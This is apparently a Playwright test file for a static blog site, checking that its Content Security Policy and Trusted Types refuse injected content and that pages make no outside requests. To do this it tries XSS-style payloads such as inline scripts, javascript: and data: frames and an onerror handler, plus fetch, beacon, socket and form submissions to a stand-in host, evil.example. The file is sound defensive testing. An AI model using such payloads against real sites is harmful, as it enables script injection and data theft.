// What the browser refuses, should a text of a stranger ever become more than text; and that nothing leaves unasked.
import { visit } from './editions.mjs';
import { addresses } from './pages.mjs';
import { answers, dist, expect, test } from './story.mjs';
import { tally } from './tally.mjs';

/** Does something in the page, and tells which rules of the policy it met. */
function violations(page, deed) {
  return page.evaluate(
    (text) =>
      new Promise((resolve) => {
        const met = new Set();
        document.addEventListener('securitypolicyviolation', (event) => met.add(event.effectiveDirective));
        const deed = new Map([
          ['an inline script', () => document.body.append(Object.assign(script(), { text: 'window.ran = 1' }))],
          ['a script of another site', () => document.body.append(Object.assign(script(), { src: 'https://evil.example/a.js' }))],
          ['a script from a text', () => window.setTimeout('window.ran = 1')],
          ['a module of another site', () => void import('https://evil.example/a.js').catch(() => {})],
          ['a module from a text', () => void import('data:text/javascript,window.ran=1').catch(() => {})],
          ['an event handler', () => element('img', { onerror: 'window.ran = 1', src: 'missing.png' })],
          ['a frame of an unknown site', () => element('iframe', { src: 'https://evil.example/' })],
          ['a frame of a script', () => element('iframe', { src: 'javascript:parent.ran=1' })],
          ['a frame of its own text', () => element('iframe', { src: 'data:text/html,<script>parent.ran=1</script>' })],
          ['an object', () => element('object', { data: 'https://evil.example/' })],
          ['an embed', () => element('embed', { src: 'https://evil.example/' })],
          ['a base', () => element('base', { href: 'https://evil.example/' })],
          ['a form', () => element('form', { action: 'https://evil.example/' }).requestSubmit()],
          ['a style sheet', () => element('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' })],
          ['a style element', () => (element('style', {}).textContent = 'body { display: none }')],
          ['a style attribute', () => element('p', { style: 'position: fixed' })],
          ['a request', () => void fetch('https://evil.example/').catch(() => {})],
          ['a beacon', () => navigator.sendBeacon('https://evil.example/', 'x')],
          ['a socket', () => new WebSocket('wss://evil.example/')],
          ['a font', () => new FontFace('x', 'url(https://evil.example/a.woff2)').load().catch(() => {})],
          ['a recording', () => element('video', { src: 'https://evil.example/a.mp4' })],
          ['a worker of another site', () => new Worker('data:text/javascript,1')],
          ['markup', () => (document.body.innerHTML = '<p>')],
          ['markup beside', () => document.body.insertAdjacentHTML('beforeend', '<p>')],
          ['a second policy', () => window.trustedTypes.createPolicy('another', {})],
        ]).get(text);
        try {
          deed();
        } catch (refused) {
          if (!(refused instanceof TypeError || refused.name === 'SecurityError')) throw refused;
        }
        window.setTimeout(() => resolve({ met: [...met], ran: window.ran }), 150);

        function script() {
          return document.createElement('script');
        }

        function element(name, attributes) {
          const made = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
          return document.body.appendChild(made);
        }
      }),
    deed,
  );
}

const REFUSED = {
  'an inline script': /trusted/,
  'a script of another site': /trusted/,
  'a script from a text': /trusted/,
  'a module of another site': /script-src/,
  'a module from a text': /script-src/,
  'an event handler': /script-src-attr|trusted/,
  'a frame of an unknown site': /frame-src/,
  'a frame of a script': /script|frame-src/,
  'a frame of its own text': /frame-src/,
  'an object': /object-src|trusted/,
  'an embed': /object-src|trusted/,
  'a base': /base-uri/,
  'a form': /form-action/,
  'a style sheet': /style-src/,
  'a style element': /style-src/,
  'a style attribute': /style-src-attr/,
  'a request': /connect-src/,
  'a beacon': /connect-src/,
  'a socket': /connect-src/,
  'a font': /font-src/,
  'a recording': /media-src/,
  'a worker of another site': /worker-src|trusted/,
  markup: /require-trusted-types-for/,
  'markup beside': /require-trusted-types-for/,
  'a second policy': /trusted-types/,
};

for (const headers of [false, true]) {
  test.describe(headers ? 'by the headers of its host, too' : 'by the page alone', () => {
    test.use({ headers });

    test('the browser refuses what no page of ours does', async ({ page, journal }) => {
      journal.allow(/Content Security Policy|Refused|Trusted|blocked|violat|requires? '?Trusted|evil\.example|missing\.png|404/i);
      await page.goto('posts/deview-2017-day2/');
      await answers(page);
      const title = await page.locator('main h1').textContent();
      const through = [];
      for (const [deed, rule] of Object.entries(REFUSED)) {
        const { met, ran } = await violations(page, deed);
        if (ran !== undefined || !rule.test(met.join(' '))) through.push(`${deed}: met ${met}, ran ${ran}`);
      }
      tally('policy', { 'deeds tried': Object.keys(REFUSED).length, 'let through': through.length });
      expect(through).toEqual([]);
      // Asked of the page itself: Playwright waits for ever for the form that was refused.
      expect(await page.evaluate(() => document.querySelector('main h1').textContent)).toBe(title);
    });
  });
}

test.describe('at a host that takes the headers', () => {
  test.use({ headers: true });

  test('every kind of page opens, offline too, and a missing one finds the app', async ({ page, site, journal }) => {
    journal.allow(/404/);
    await page.goto('no/such/page/');
    await expect(page.locator('main h1')).toHaveText('Page not found');
    for (const address of ['', 'tags/lecture/', 'posts/deview-2017-day2/', 'settings/']) {
      await page.goto(address);
      await answers(page);
    }
    await visit(page);
    await site.stop();
    for (const address of ['', 'slides/', 'posts/deview-2017-day2/', 'settings/']) {
      await page.goto(address);
      await expect(page.locator('main h1'), address).toBeVisible();
    }
  });
});

test('nothing leaves unasked: every page, to its end, asks nothing of other sites', async ({ page, journal }) => {
  test.slow();
  const all = addresses(dist);
  expect(all.length).toBeGreaterThan(80);
  for (const address of all) {
    await page.goto(address);
    await answers(page);
    await expect(page.locator('main h1'), address).toBeVisible();
    await page.evaluate(() => {
      for (const folded of document.querySelectorAll('details')) folded.open = true;
      window.scrollTo(0, document.documentElement.scrollHeight);
    });
    for (const link of await page.locator('main a[href^="http"]').all()) {
      await link.dispatchEvent('pointerover');
      await link.dispatchEvent('focusin');
    }
    expect(journal.outside, address).toEqual([]);
  }
  tally('unasked', { 'pages opened to their ends': all.length, 'requests to other sites': journal.outside.length });
});

test('links to other sites tell them nothing, and cannot reach back', async ({ page }) => {
  await page.goto('posts/deview-2017-day2/');
  await expect(page.locator('main h1')).toBeVisible();
  await expect(page.locator('meta[name=referrer]')).toHaveAttribute('content', 'no-referrer');
  const links = page.locator('main a[href^="http"]');
  expect(await links.count()).toBeGreaterThan(5);
  for (const link of await links.all()) {
    await expect(link).toHaveAttribute('rel', /noopener noreferrer/);
    await expect(link).toHaveAttribute('target', '_blank');
  }
});
